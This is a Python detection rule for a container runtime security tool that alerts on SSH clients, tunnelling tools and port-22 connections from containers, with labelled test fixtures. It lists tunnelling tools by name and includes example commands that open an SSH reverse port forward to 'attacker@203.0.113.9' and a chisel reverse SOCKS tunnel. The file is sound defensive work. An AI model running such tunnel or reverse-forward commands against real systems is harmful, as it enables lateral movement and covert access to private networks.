"""SSH, file copies over SSH and tunnelling tools started in a container: lateral movement and covert channels."""

from typing import Any

from vigil.detections.sdk import EventDetection, Example
from vigil.detections.sdk.prefilters import program_name
from vigil.event import Event
from vigil.sources.falco.fixtures import falco_record
from vigil.sources.tetragon.fixtures import tetragon_record

SSH_CLIENTS = frozenset({"ssh", "scp", "sftp", "sshpass", "autossh", "dbclient", "sshuttle"})
TUNNELS = frozenset({"chisel", "ngrok", "frpc", "frps", "gost", "bore", "iodine", "dns2tcp", "ligolo", "rathole",
                     "cloudflared", "pivotnacci", "revsocks"})
SSH_PORT = 22


def remote_access(event: Event) -> str:
    """``ssh`` (a client or a connection to port 22), ``tunnel`` (a tunnelling tool), or ''."""
    if not (event.k8s.container_id or event.container.id):
        return ""
    if event.kind == "net.connect":
        return "ssh" if event.network.remote_port == SSH_PORT else ""
    program = program_name(event)
    if program in SSH_CLIENTS:
        return "ssh"
    return "tunnel" if program in TUNNELS else ""


def ssh_context(event: Event) -> dict[str, Any]:
    forwards = [arg for arg in event.actor.args if arg in ("-R", "-L", "-D", "-w")]
    return {"exe": event.actor.exe, "what": remote_access(event), "command": " ".join(event.actor.args),
            "port_forwarding": forwards, "peer": f"{event.target.address}:{event.target.port}"
            if event.target.address else "", "container": event.k8s.container_name, "image": event.k8s.image}


DETECTION = EventDetection(
    id="runtime.ssh_from_container",
    title="SSH or tunnel from a container",
    alert_title="{what} from {namespace}/{pod}: {program}",
    description=(
        "An SSH client (ssh, scp, sftp, sshpass) or a tunnelling tool (chisel, ngrok, frp, gost, …) started in a "
        "container, or a container connected to port 22. Application containers do not SSH anywhere; attackers "
        "use SSH and tunnels to move to other machines, copy data out, and open reverse port forwards that "
        "expose the cluster network to them."
    ),
    severity="medium",
    mitre=["T1021.004", "T1572"],
    tags=["runtime", "lateral_movement", "command_and_control"],
    references=["https://attack.mitre.org/techniques/T1572/", "https://attack.mitre.org/techniques/T1021/004/"],
    false_positives=["CI jobs and GitOps tools that clone over SSH (git connecting to port 22 of a Git host)."],
    kinds=["process.exec", "net.connect"],
    exe_names={"process.exec": SSH_CLIENTS | TUNNELS},
    remote_ports={"net.connect": [SSH_PORT]},
    match=lambda event: bool(remote_access(event)),
    context=ssh_context,
    dedup="{cluster}/{namespace}/{pod}/{container}/{exe}",
    examples=[
        Example(
            name="ssh with a reverse port forward (Tetragon)",
            source="tetragon",
            fires=True,
            record=tetragon_record(binary="/usr/bin/ssh", arguments="-R 9000:localhost:22 -N attacker@203.0.113.9",
                                   parent="/bin/bash"),
        ),
        Example(
            name="Falco: chisel client started",
            source="falco",
            fires=True,
            record=falco_record(
                "Custom spawned process audit", "execve",
                {"proc.exepath": "/tmp/chisel", "proc.name": "chisel",
                 "proc.cmdline": "chisel client 203.0.113.9:8080 R:socks"},
                priority="Notice",
            ),
        ),
        Example(
            name="a connection to port 22 (Tetragon)",
            source="tetragon",
            fires=True,
            record=tetragon_record(
                "process_connect", binary="/usr/bin/python3", arguments="sync.py",
                body={"source_ip": "10.88.0.7", "source_port": 40114, "destination_ip": "10.0.0.4",
                      "destination_port": 22, "protocol": "TCP"},
            ),
        ),
        Example(
            name="an HTTPS connection",
            source="tetragon",
            fires=False,
            record=tetragon_record(
                "process_connect", binary="/usr/bin/curl", arguments="https://example.com",
                body={"source_ip": "10.88.0.7", "source_port": 40115, "destination_ip": "93.184.215.14",
                      "destination_port": 443, "protocol": "TCP"},
            ),
        ),
        Example(
            name="ssh from the node",
            source="tetragon",
            fires=False,
            record=tetragon_record(binary="/usr/bin/ssh", arguments="admin@10.0.0.5", host=True),
        ),
    ],
)
